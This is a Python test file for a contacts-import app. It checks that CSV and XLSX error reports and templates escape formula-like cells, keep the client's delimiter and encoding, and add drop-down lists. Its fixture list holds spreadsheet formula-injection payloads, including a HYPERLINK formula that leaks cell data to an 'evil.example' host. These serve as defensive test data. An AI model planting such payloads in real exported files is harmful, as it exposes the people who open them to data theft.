"""Templates and error reports: headers, drop-down lists, and formula-like cells escaped in every export."""

import codecs
import csv
import io
import zipfile

import openpyxl
import pytest

from contacts.admin.history import stored_problem_label
from contacts.fields import FRENCH_HEADERS
from contacts.importing import reports
from contacts.importing.columns import ENGLISH_HEADERS, FIELDS
from contacts.importing.pipeline import NO_DATA_ROWS, preview_import
from contacts.importing.reading import Table
from contacts.importing.resources import ContactSpreadsheetResource
from contacts.importing.row_marks import TEMPLATE_EXAMPLE_SKIPPED
from contacts.services import rows as rows_module
from contacts.services.rows import Problem
from tests.factories import CustomerFactory
from tests.helpers import HEADERS, contact_row, csv_bytes

FORMULAS = [
    "=1+1",
    "-2+3",
    "+A1",
    "@SUM(A1:A2)",
    "\t=cmd",
    "\r=cmd",
    '=HYPERLINK("http://evil")',
    '\x01=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "\x07@SUM(1)",
]
NOT_FORMULAS = [
    "",
    "Camille",
    "a=b",
    "1+1",
    "06 12 34 56 78",
    "+33 6 12 34 56 78",
    "+33612345678",
    "-5",
    "+1 (555) 123-4567",
    "x@y.example",
    " =1",
]


def read_csv(content: bytes, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=delimiter))


def read_xlsx(content: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.values)


def sheet_of(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def table(headers: list[str], rows: list[list[str]], format: str = "csv") -> Table:
    return Table(format=format, headers=headers, rows=list(enumerate(rows, start=2)), sheet_name=None)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_cells_get_a_leading_apostrophe_once_control_characters_are_gone(text):
    escaped = reports.escape_cell(text)

    assert escaped.startswith("'")
    assert escaped[1:] == text.replace("\x01", "").replace("\x07", "")


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_numbers_phones_and_other_cells_are_written_as_they_are(text):
    assert reports.escape_cell(text) == text


def test_escape_cell_writes_none_as_blank_and_numbers_as_text():
    assert (reports.escape_cell(None), reports.escape_cell(-5), reports.escape_cell(7)) == ("", "-5", "7")


def test_csv_error_report_escapes_every_formula_like_cell_and_no_phone():
    rows = [[text, "+33 6 12 34 56 78"] for text in FORMULAS]
    problems = [(row, None, "@error") for row in range(2, 2 + len(FORMULAS))]

    lines = read_csv(reports.error_report(table(["=Header", "Phone"], rows), problems, format="csv"))

    assert lines[0] == ["'=Header", "Phone", "Error"]
    assert all(line[0].startswith("'") for line in lines[1:])
    assert {line[1] for line in lines[1:]} == {"+33 6 12 34 56 78"}
    assert {line[2] for line in lines[1:]} == {f"Row {n}: @error" for n in range(2, 2 + len(FORMULAS))}


def test_xlsx_error_report_writes_every_cell_as_text_and_holds_no_formula():
    rows = [[text, "+33 6 12 34 56 78"] for text in FORMULAS]
    problems = [(row, "Phone", "+error") for row in range(2, 2 + len(FORMULAS))]

    content = reports.error_report(table(["=Header", "Phone"], rows), problems, format="xlsx")

    sheet = sheet_of(content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    values = list(sheet.values)
    assert values[0] == ("=Header", "Phone", "Error")
    # No apostrophe: a text cell is never a formula. XML reads a carriage return back as a line feed.
    assert [row[0] for row in values[1:]] == [
        text.replace("\x01", "").replace("\x07", "").replace("\r", "\n") for text in FORMULAS
    ]
    assert {row[1] for row in values[1:]} == {"+33 6 12 34 56 78"}


def test_xlsx_error_report_fills_the_invalid_cells_red_with_their_message_as_a_comment():
    rows = [["Acme", "bob@acme", "06"], ["Acme", "ok@acme.example", "+33 6 12 34 56 78"]]
    problems = [
        (2, "Email", "bad email"),
        (2, "Phone", "bad phone"),
        (2, "Phone", "and short"),
        (3, None, "row"),
    ]

    sheet = sheet_of(reports.error_report(table(["Name", "Email", "Phone"], rows), problems, format="xlsx"))

    name, email, phone, error = sheet[2]
    assert [cell.fill.fgColor.rgb for cell in (name, email, phone)] == ["00000000", "00FFC7CE", "00FFC7CE"]
    assert (name.comment, email.comment.text, phone.comment.text) == (
        None,
        "bad email",
        "bad phone\nand short",
    )
    assert error.value == 'Row 2, "Email": bad email\nRow 2, "Phone": bad phone\nRow 2, "Phone": and short'
    assert all(cell.comment is None and cell.fill.fgColor.rgb == "00000000" for cell in sheet[3][:3])


def test_error_report_holds_only_the_invalid_rows_with_every_message_of_each():
    rows = [["a2", "b2"], ["a3", "b3"], ["a5", "b5"]]
    source = Table(
        format="csv", headers=["A", "B"], rows=[(2, rows[0]), (3, rows[1]), (5, rows[2])], sheet_name=None
    )
    problems = [
        (5, None, "first problem"),
        (3, "B", "only problem"),
        (5, None, "second problem"),
        (None, None, "file problem"),
    ]

    for format in ("csv", "xlsx"):
        content = reports.error_report(source, problems, format=format)
        lines = (
            read_csv(content)
            if format == "csv"
            else [[cell or "" for cell in row] for row in read_xlsx(content)]
        )

        assert lines == [
            ["A", "B", "Error"],
            ["", "", "file problem"],
            ["a3", "b3", 'Row 3, "B": only problem'],
            ["a5", "b5", "Row 5: first problem\nRow 5: second problem"],
        ], format


def test_error_report_of_an_unreadable_file_has_only_the_error_column():
    lines = read_csv(reports.error_report(None, [(None, None, "The file is empty.")], format="csv"))

    assert lines == [["Error"], ["The file is empty."]]


def test_xlsx_error_report_drops_control_characters_xml_cannot_hold():
    rows = read_xlsx(
        reports.error_report(table(["A"], [["bad\x01cell\x1b"]]), [(2, None, "problem")], format="xlsx")
    )

    assert rows[1] == ("badcell", "Row 2: problem")


def test_xlsx_error_report_cuts_a_cell_excel_could_not_open_and_says_so():
    huge = "x" * 1_000_000

    rows = read_xlsx(reports.error_report(table(["A"], [[huge]]), [(2, None, "problem")], format="xlsx"))

    assert len(rows[1][0]) == reports.EXCEL_CELL_LIMIT
    assert rows[1][0].endswith("… [cut: 1,000,000 characters]")
    assert rows[1][0].startswith("x" * 30_000)


def test_unknown_export_format_is_refused():
    with pytest.raises(ValueError, match="ods"):
        reports.error_report(None, [], format="ods")


# --- The client's shape: delimiter, encoding, header language ------------------------------------------


@pytest.mark.parametrize(
    ("data", "shape"),
    [
        ("Nom;Prénom\r\nMartin;Zoé\r\n".encode("cp1252"), reports.CsvShape(";", "cp1252")),
        ("Nom;Prénom\r\nMartin;Zoé\r\n".encode(), reports.CsvShape(";", "utf-8-sig")),
        (codecs.BOM_UTF8 + "A,B\nZoé,x\n".encode(), reports.CsvShape(",", "utf-8-sig")),
        ("A\tB\nZoé\tx\n".encode("utf-16"), reports.CsvShape("\t", "utf-16")),
        (b'"a;b",c\n1,2\n', reports.CsvShape(",", "utf-8-sig")),
        ("Nom;Prénom\r\nZoé;".encode("cp1252") + "Chloé".encode(), reports.CsvShape(";", "utf-8-sig")),
        (b"", reports.CsvShape(",", "utf-8-sig")),
    ],
)
def test_the_csv_shape_of_an_upload_is_its_delimiter_and_encoding(data, shape):
    assert reports.csv_shape(data) == shape


def test_a_cp1252_semicolon_file_gets_a_cp1252_semicolon_report():
    shape = reports.CsvShape(";", "cp1252")

    content = reports.error_report(
        table(["Nom", "Prénom"], [["Müller", "Zoé"]]), [(2, "Prénom", "é")], format="csv", shape=shape
    )

    assert content.decode("cp1252") == 'Nom;Prénom;Error\r\nMüller;Zoé;"Row 2, ""Prénom"": é"\r\n'


def test_a_report_cp1252_cannot_write_is_written_in_utf8_instead():
    content = reports.error_report(
        table(["A"], [["表"]]), [(2, None, "x")], format="csv", shape=reports.CsvShape(";", "cp1252")
    )

    assert read_csv(content, delimiter=";") == [["A", "Error"], ["表", "Row 2: x"]]


@pytest.mark.parametrize(
    ("headers", "language"),
    [
        (HEADERS, "en"),
        ([FRENCH_HEADERS[name] for name in FIELDS], "fr"),
        (["nom du client *", "CODE D\u2019IDENTIFICATION EXTERNE", "Identifiant du contact", "Email"], "fr"),
        (["Whatever"], "en"),
        (None, "en"),
    ],
)
def test_the_report_language_is_the_headers_language(headers, language):
    assert reports.header_language(headers) == language
    assert reports.report_language(None, headers) == language
    assert reports.report_language("fr", headers) == "fr"
    assert reports.report_language("de", headers) == language


def test_the_report_frame_follows_the_active_language(monkeypatch):
    monkeypatch.setattr(reports, "ERROR_COLUMN", "Erreur")
    monkeypatch.setattr(rows_module, "AT_ROW", "Ligne {row} : {message}")

    lines = read_csv(reports.error_report(table(["A"], [["x"]]), [(2, None, "problème")], format="csv"))

    assert lines == [["A", "Erreur"], ["x", "Ligne 2 : problème"]]


def test_a_workbook_report_as_csv_uses_what_the_excel_of_its_language_splits_on():
    french = [FRENCH_HEADERS[name] for name in FIELDS]

    assert reports.report_shape("xlsx", b"PK...", french) == reports.CsvShape(";", "utf-8-sig")
    assert reports.report_shape("xlsx", b"PK...", HEADERS) == reports.CsvShape(",", "utf-8-sig")


def test_csv_template_has_the_english_headers_in_order_and_one_example_row():
    lines = read_csv(reports.template_csv())

    assert lines[0] == [ENGLISH_HEADERS[name] for name in FIELDS]
    assert len(lines) == 2
    assert dict(zip(FIELDS, lines[1], strict=True)) == reports.TEMPLATE_EXAMPLE


def test_xlsx_template_has_the_headers_the_example_and_two_drop_down_lists():
    sheet = openpyxl.load_workbook(io.BytesIO(reports.template_xlsx())).active

    assert [cell.value for cell in sheet[1]] == HEADERS
    assert [cell.value for cell in sheet[2]] == [reports.TEMPLATE_EXAMPLE[name] for name in FIELDS]
    validations = sheet.data_validations.dataValidation
    assert len(validations) == 2
    by_range = {str(v.sqref): v for v in validations}
    occupation, main = by_range["H2:H10001"], by_range["I2:I10001"]
    assert (occupation.type, occupation.formula1) == ("list", '"ACCOUNTING,SALES,PURCHASER,PAYER"')
    assert (main.type, main.formula1) == ("list", '"1,0"')
    assert occupation.allow_blank
    assert main.allow_blank


@pytest.mark.django_db
@pytest.mark.parametrize("template", [reports.template_csv, reports.template_xlsx])
def test_the_template_example_row_is_skipped_with_a_warning_not_imported(org, template):
    example = reports.TEMPLATE_EXAMPLE
    CustomerFactory(
        organization=org, external_id=example["customer_external_id"], name=example["customer_name"]
    )
    name = "template.csv" if template is reports.template_csv else "template.xlsx"

    report = preview_import(organization=org, data=template(), filename=name)

    skipped = TEMPLATE_EXAMPLE_SKIPPED.format(
        rows="row 2", code=example["external_id"], email=example["email"]
    )
    assert [problem.message for problem in report.warnings] == [skipped]
    assert [problem.message for problem in report.errors] == [NO_DATA_ROWS]


@pytest.mark.django_db
def test_the_template_examples_values_pass_the_rules_and_rows_below_it_are_imported(org):
    example = reports.TEMPLATE_EXAMPLE
    CustomerFactory(
        organization=org, external_id=example["customer_external_id"], name=example["customer_name"]
    )
    own = {**example, "external_id": "CONTACT-1001-2", "email": "ann.martin@example.com"}
    data = csv_bytes([reports.template_example(), [own[name] for name in FIELDS]], reports.template_headers())

    report = preview_import(organization=org, data=data, filename="template.csv")

    assert (report.errors, len(report.warnings)) == ([], 1)
    assert report.totals == {"rows": 1, "new": 1, "updated": 0, "unchanged": 0, "invalid": 0}
    assert report.plan.outcomes[0].row == 3


@pytest.mark.django_db
def test_stored_problems_are_worded_as_the_report_words_them(org):
    customer = CustomerFactory(organization=org)
    data = csv_bytes([contact_row(customer, "C-1", "nope"), contact_row(customer, "", "a@b.example")])
    report = preview_import(organization=org, data=data, filename="a.csv")
    report.errors.append(Problem(row=None, field=None, message="A file problem."))
    assert len(report.errors) == 3

    for problem in report.errors:
        stored = {"row": problem.row, "column": report.column(problem), "message": problem.message}
        assert stored_problem_label(stored) == report.label(problem)


def test_templates_follow_the_spreadsheet_resources_layout():
    resource = ContactSpreadsheetResource()

    assert reports.template_headers() == resource.get_export_headers()
    assert read_csv(reports.template_csv())[0] == resource.get_export_headers()
